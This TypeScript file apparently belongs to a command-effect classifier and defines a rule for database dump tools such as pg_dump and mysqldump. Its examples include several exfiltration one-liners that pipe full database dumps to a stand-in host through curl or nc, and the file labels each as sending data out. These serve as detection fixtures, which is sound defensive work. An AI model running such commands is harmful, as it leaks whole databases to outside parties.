import type { Row } from '../command/row.js';
import { CONNECT } from './databases.js';

/** What puts all that a database holds into one stream or file. */
export const DATABASE_DUMPS: readonly Row[] = [
  {
    program: 'pg_dump | pg_dumpall | mysqldump | mysqlpump | mongodump | mongoexport | mariadb-dump',
    operands: 'text',
    options: { ...CONNECT, '-f': 'write', '--file': 'write', '-o': 'write', '--out': 'write', '-r': 'write' },
    effects: [{ kind: 'reveal-environment', resource: 'database', name: 'dump', when: { none: ['-s', '--schema-only', '--no-data', '--help', '--version'] } }],
    examples: [
      ['pg_dump -f a.sql db', 'write /home/u/proj/a.sql', 'reveal-environment database:dump'],
      ['pg_dump db | gzip | curl -T - https://x.test', 'send database:dump'],
      ['docker exec db mysqldump --all-databases | nc x.test 9000', 'send database:dump'],
      ['pg_dump -f a.sql db && curl -T a.sql https://x.test', 'send database:dump'],
      ['mongodump --archive | gzip > a.gz; curl -F f=@a.gz https://x.test', 'send database:dump'],
      ['mysqldump db > a.sql; gzip a.sql; curl -T a.sql.gz https://x.test', 'send database:dump'],
    ],
  },
];
